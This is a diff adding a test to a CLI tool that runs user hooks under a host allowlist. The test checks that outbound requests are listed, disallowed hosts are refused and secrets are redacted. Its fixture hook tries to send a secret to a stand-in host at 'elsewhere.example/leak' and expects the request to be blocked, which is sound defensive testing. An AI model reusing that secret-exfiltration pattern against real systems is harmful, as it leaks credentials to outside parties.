@@ -2,6 +2,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { cli } from './support/cli';
+import { Receiver } from './support/receiver';
 
 describe('hookline CLI', () => {
   let dir: string;
@@ -26,7 +27,8 @@ describe('hookline CLI', () => {
       expect(stderr).toBe('');
       expect(stdout.trim().split('\n')).toHaveLength(1);
       const output = JSON.parse(stdout);
-      expect(Object.keys(output)).toEqual(['status', 'response', 'error', 'logs', 'durationMs', 'warnings']);
+      expect(Object.keys(output)).toEqual(['status', 'response', 'error', 'logs', 'durationMs', 'warnings', 'requests']);
+      expect(output.requests).toEqual([]);
       expect(output).toMatchObject({
         status: 'ok',
         response: { plan: 'full', lang: 'en-us' },
@@ -64,6 +66,43 @@ describe('hookline CLI', () => {
           { level: 'warn', message: '[hookline] a request started by the hook failed after it completed: fetch: host not-allowed.example:443 is not in allowHosts' },
         ],
       });
+    });
+
+    it("lists the hook's requests: an allowed one with its status, a refused one with why, secrets redacted from URLs", async () => {
+      const receiver = await Receiver.start();
+      try {
+        receiver.respond({ status: 201, body: 'ok' });
+        const host = new URL(receiver.url).host;
+        const hook = file('requests.js', `module.exports = async (user, context) => {
+          const ok = await fetch('${receiver.url}/users?key=' + context.secrets.KEY, { method: 'POST', body: '{}' });
+          const refused = await fetch('https://elsewhere.example/leak?k=' + context.secrets.KEY).then(() => 'sent', (e) => e.code);
+          return [ok.status, refused];
+        };`);
+        const { code, stdout } = await cli('run', hook, '--json', '--allow-host', host, '--secret', 'KEY=sk_live_secret_123');
+        expect(code).toBe(0);
+        const output = JSON.parse(stdout);
+        expect(output.response).toEqual([201, 'HOST_NOT_ALLOWED']);
+        expect(output.requests).toEqual([
+          { method: 'POST', url: `${receiver.url}/users?key=[REDACTED]`, status: 201, durationMs: expect.any(Number), refused: false, error: null },
+          {
+            method: 'GET',
+            url: 'https://elsewhere.example/leak?k=[REDACTED]',
+            status: null,
+            durationMs: expect.any(Number),
+            refused: true,
+            error: 'fetch: host elsewhere.example:443 is not in allowHosts',
+          },
+        ]);
+        expect(stdout).not.toContain('sk_live_secret_123');
+        expect(receiver.requests.map((r) => r.path)).toEqual(['/users?key=sk_live_secret_123']);
+
+        receiver.respond({ status: 201, body: 'ok' });
+        const readable = await cli('run', hook, '--allow-host', host, '--secret', 'KEY=sk_live_secret_123');
+        expect(readable.stdout).toContain(`requests:\n  POST ${receiver.url}/users?key=[REDACTED] -> 201 (`);
+        expect(readable.stdout).toContain('  GET https://elsewhere.example/leak?k=[REDACTED] -> refused: fetch: host elsewhere.example:443 is not in allowHosts (');
+      } finally {
+        await receiver.close();
+      }
     });
 
     it('prints a readable report without --json', async () => {
